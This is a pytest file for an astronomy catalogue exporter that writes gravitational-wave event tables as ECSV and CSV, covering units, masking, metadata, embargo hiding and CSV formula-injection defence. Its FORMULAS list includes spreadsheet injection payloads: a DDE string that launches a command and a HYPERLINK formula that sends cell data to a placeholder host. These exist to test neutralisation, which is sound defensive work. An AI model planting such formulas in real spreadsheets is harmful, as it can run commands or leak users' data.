"""The catalogue table: ECSV (astropy's format, units in the header) and CSV read back."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import astropy.units as u
import numpy as np
import pytest
from astropy.table import Column, Table
from astropy.time import Time
from helpers import CONTRACT_QUANTITIES

from factsheet.derive import derive_event
from factsheet.load import load_catalogue
from factsheet.load.samples import HEADER_CELL
from factsheet.render import tables
from factsheet.render.tables import MAIN_QUANTITIES, catalogue_table, write_csv, write_ecsv
from factsheet.resources import demo_dir

UNITS = {
    "heavier_mass": u.solMass,
    "chirp_mass": u.solMass,
    "distance": u.Mpc,
    "energy_radiated": u.J,
    "peak_luminosity": u.W,
    "kick_velocity": u.km / u.s,
    "ringdown_frequency": u.Hz,
    "time_in_band": u.s,
}
DIMENSIONLESS = ("mass_ratio", "effective_spin", "redshift", "remnant_spin")
TEXT_COLUMNS = ["id", "title", "time_utc", "status", "source_class"]


@pytest.fixture(scope="module")
def derived():
    catalogue = load_catalogue(demo_dir())
    settings = replace(catalogue.settings, samples=400)
    return [derive_event(e, settings) for e in catalogue.events]


@pytest.fixture(scope="module")
def ecsv(derived):
    return Table.read(write_ecsv(catalogue_table(derived)).decode("utf-8"), format="ascii.ecsv")


def test_ecsv_has_one_row_per_event_and_three_columns_per_quantity(derived, ecsv):
    assert list(ecsv["id"]) == [d.event.id for d in derived]
    for name in MAIN_QUANTITIES:
        assert {name, f"{name}_low", f"{name}_high"} <= set(ecsv.colnames)


def test_columns_are_the_contract_quantities_in_order(derived, ecsv):
    assert tuple(MAIN_QUANTITIES) == CONTRACT_QUANTITIES
    expected = [
        *TEXT_COLUMNS,
        *(f"{q}{s}" for q in CONTRACT_QUANTITIES for s in ("", "_low", "_high")),
        "sky_area_90",  # docs/json-export.md: the sky columns follow the quantities
        "sky_peak_ra",
        "sky_peak_dec",
    ]
    assert ecsv.colnames == expected
    header = next(csv.reader(io.StringIO(write_csv(catalogue_table(derived)).decode())))
    assert [HEADER_CELL.match(cell).group(1) for cell in header] == expected
    assert header[5:8] == [
        "heavier_mass [solMass]",
        "heavier_mass_low [solMass]",
        "heavier_mass_high [solMass]",
    ]


def test_ecsv_units_survive_the_round_trip(ecsv):
    for name, unit in UNITS.items():
        for column in (name, f"{name}_low", f"{name}_high"):
            assert ecsv[column].unit == unit, column
    for name in DIMENSIONLESS:
        assert ecsv[name].unit is None


def test_ecsv_values_equal_the_summaries(derived, ecsv):
    for row, item in zip(ecsv, derived, strict=True):
        for name in MAIN_QUANTITIES:
            if name not in item.quantities:
                continue
            s = item.quantities[name]
            assert u.Unit(s.unit) == (ecsv[name].unit or u.dimensionless_unscaled)
            assert [row[name], row[f"{name}_low"], row[f"{name}_high"]] == [s.median, s.low, s.high]


def test_ecsv_masks_quantities_an_event_lacks(derived, ecsv):
    lacking = [(i, d) for i, d in enumerate(derived) if "remnant_mass" not in d.quantities]
    assert lacking, "the demo has neutron-star pairs without remnant numbers"
    for i, item in lacking:
        assert item.source_class in {"BNS", "NSBH"}
        for column in ("remnant_mass", "remnant_mass_low", "remnant_mass_high", "kick_velocity"):
            assert ecsv[column].mask[i], (item.event.id, column)
    having = [i for i, d in enumerate(derived) if "remnant_mass" in d.quantities]
    assert not np.any(ecsv["remnant_mass"].mask[having])


def test_ecsv_masks_exactly_the_quantities_an_event_lacks(derived, ecsv):
    # the bodies' spins are quantities only where the input gave them
    assert any("heavier_spin" not in d.quantities for d in derived)
    for i, item in enumerate(derived):
        for name in CONTRACT_QUANTITIES:
            masked = bool(np.ma.getmaskarray(ecsv[name])[i])
            assert masked == (name not in item.quantities), (item.event.id, name)


def test_ecsv_meta_and_descriptions(derived, ecsv):
    assert ecsv.meta["credible_level"] == derived[0].settings.credible_level
    assert ecsv.meta["cosmology"] == "Planck18"
    assert "not from a full re-analysis" in ecsv.meta["note"]
    assert "credible interval" in ecsv["remnant_mass_low"].description
    assert "source frame" in ecsv["heavier_mass"].description
    assert "detector frame" in ecsv["ringdown_frequency"].description


def test_ecsv_is_deterministic_and_undated(derived, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "253402300799")  # 9999-12-31, an absurd clock
    first = write_ecsv(catalogue_table(derived))
    second = write_ecsv(catalogue_table(derived))
    assert first == second
    assert b"9999-12-31" not in first
    assert Time.now().utc.isot[:10].encode() not in first
    assert first.startswith(b"# %ECSV")


def test_csv_header_cells_carry_units(derived):
    text = write_csv(catalogue_table(derived)).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert "heavier_mass [solMass]" in header
    assert "kick_velocity [km / s]" in header
    assert "mass_ratio" in header and "id" in header
    for cell in header:  # the samples-file convention: name [astropy unit]
        match = HEADER_CELL.match(cell)
        assert match, cell
        if match.group(2):
            u.Unit(match.group(2))
    assert len(rows) == len(derived) + 1


def test_csv_values_and_empty_cells(derived):
    rows = list(csv.DictReader(io.StringIO(write_csv(catalogue_table(derived)).decode())))
    for row, item in zip(rows, derived, strict=True):
        assert row["id"] == item.event.id
        assert float(row["heavier_mass [solMass]"]) == item.quantities["heavier_mass"].median
        if "remnant_mass" in item.quantities:
            assert float(row["remnant_mass_high [solMass]"]) == item.quantities["remnant_mass"].high
        else:
            assert row["remnant_mass [solMass]"] == ""


def test_hostile_title_round_trips(derived):
    item = derived[0]
    hostile = 'A "quoted", comma\'d <b>title</b> & more'
    odd = replace(item, event=replace(item.event, title=hostile))
    table = catalogue_table([odd])
    rows = list(csv.DictReader(io.StringIO(write_csv(table).decode())))
    assert rows[0]["title"] == hostile
    back = Table.read(write_ecsv(table).decode(), format="ascii.ecsv")
    assert back["title"][0] == hostile


def test_empty_catalogue_gives_header_only():
    table = catalogue_table([])
    assert len(table) == 0
    back = Table.read(write_ecsv(table).decode(), format="ascii.ecsv")
    assert (
        back["heavier_mass"].unit is None or back["heavier_mass"].unit == u.dimensionless_unscaled
    )
    assert write_csv(table).decode().count("\n") == 1


# --- formula injection: text cells a spreadsheet would run are written as text ----------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "==",
]
HARMLESS = ["A-B pair", "5-7 solar masses", "x=1", "a@b", "'already text", "", " =1"]


def _csv_rows(table) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(write_csv(table).decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("field", ["id", "title", "status"])
def test_csv_event_text_starting_a_formula_is_written_as_text(derived, field, text):
    item = derived[0]
    odd = replace(item, event=replace(item.event, **{field: text}))
    table = catalogue_table([odd])
    (row,) = _csv_rows(table)
    assert row[field] == "'" + text.replace("\r", "\n")
    if text == text.strip():  # astropy's reader strips a cell's outer white space
        back = Table.read(write_ecsv(table).decode(), format="ascii.ecsv")
        assert back[field][0] == text  # the ECSV (read by astropy, not spreadsheets) is as given


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_derived_and_later_text_columns_are_neutralised_too(derived, text):
    item = derived[0]
    table = catalogue_table([replace(item, source_class=text)])
    table["note"] = Column([text], dtype=str)  # a text column added after this was written
    (row,) = _csv_rows(table)
    expected = "'" + text.replace("\r", "\n")
    assert row["source_class"] == expected and row["note"] == expected


@pytest.mark.parametrize("text", ["two\rlines", "two\r\nlines", "two\nlines", "\r", "\n=1"])
def test_csv_line_breaks_in_text_keep_the_row_whole(derived, text):
    item = derived[0]
    table = catalogue_table([replace(item, event=replace(item.event, title=text)), item])
    rows = _csv_rows(table)
    assert [r["id"] for r in rows] == [item.event.id, item.event.id]
    title = rows[0]["title"]
    assert title.lstrip("'") == text.replace("\r\n", "\n").replace("\r", "\n")
    assert title.startswith("'") == text.startswith(("\r", "\n"))
    assert rows[1]["heavier_mass [solMass]"] == repr(item.quantities["heavier_mass"].median)


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_harmless_text_is_unchanged(derived, text):
    item = derived[0]
    (row,) = _csv_rows(catalogue_table([replace(item, event=replace(item.event, title=text))]))
    assert row["title"] == text


def test_csv_negative_numbers_stay_numbers(derived):
    table = catalogue_table(derived[:1])
    table["effective_spin"][0] = -0.25
    table["effective_spin_low"][0] = -1e-300
    text = write_csv(table).decode()
    (row,) = _csv_rows(table)
    assert row["effective_spin"] == "-0.25" and float(row["effective_spin_low"]) == -1e-300
    assert "'-" not in text and "'" + str(derived[0].event.time.utc.isot) not in text
    assert float(row["heavier_mass [solMass]"]) == derived[0].quantities["heavier_mass"].median


def test_csv_demo_has_no_quoted_cells_and_ecsv_is_untouched(derived):
    text = write_csv(catalogue_table(derived)).decode()
    assert ",'" not in text and "\n'" not in text  # nothing in the demo looks like a formula


def test_internal_tables_say_what_a_public_build_leaves_out(derived):
    internal = catalogue_table(derived, "internal")
    assert internal.colnames[5:7] == ["visibility", "embargo_until"]
    rows = {row["id"]: row for row in internal}
    assert {r["visibility"] for r in internal} == {"public", "internal"}
    embargoed = [d.event for d in derived if d.event.embargo_until is not None]
    assert embargoed, "the demo has an event under embargo"
    for event in embargoed:
        assert rows[event.id]["embargo_until"] == event.embargo_until.utc.isot
    header = write_csv(internal).decode().splitlines()[0]
    assert header.startswith("id,title,time_utc,status,source_class,visibility,embargo_until,")


def test_public_tables_carry_no_trace_of_visibility_or_embargo(derived):
    shown = [d for d in derived if d.event.visibility == "public" and not d.event.embargo_until]
    table = catalogue_table(shown)  # a public build's table, its events selected as by the build
    assert table.colnames[:6] == [*TEXT_COLUMNS, "heavier_mass"]
    for text in (write_csv(table), write_ecsv(table)):
        assert b"visibility" not in text and b"embargo" not in text


def test_licence_and_citation_go_into_the_ecsv_meta_and_the_csv_stays_plain(derived, ecsv):
    settings = derived[0].settings
    assert settings.licence and settings.citation  # the demo sets both
    assert ecsv.meta["licence"] == settings.licence
    assert ecsv.meta["citation"] == settings.citation
    lines = write_csv(catalogue_table(derived)).decode().splitlines()
    assert lines[0].startswith("id,") and not any(line.startswith("#") for line in lines)
    assert len(lines) == 1 + len(derived)  # a header, then one line per event (RFC 4180)
    bare = catalogue_table([replace(d, settings=replace(settings, licence="")) for d in derived])
    assert "licence" not in bare.meta


@pytest.mark.parametrize(
    "hostile",
    ["", 'a "quoted" title', "two\nlines", "cr\rx", "#hash", " lead", "trail\t", "tab\tx", "é ü"],
)
def test_tables_written_in_blocks_equal_the_tables_written_at_once(derived, monkeypatch, hostile):
    # astropy's own ECSV writer on the whole table is the reference; csv's writer on every row
    items = list(derived) * 3
    items[1] = replace(items[1], event=replace(items[1].event, title=hostile))
    table = catalogue_table(items)
    whole = io.StringIO()
    table.write(whole, format="ascii.ecsv")
    at_once = write_csv(table)
    monkeypatch.setattr(tables, "BLOCK_ROWS", 2)
    assert write_ecsv(table).decode("utf-8") == whole.getvalue()
    assert write_csv(table) == at_once
    assert len(table) > 2 * tables.BLOCK_ROWS  # several blocks, the last one short
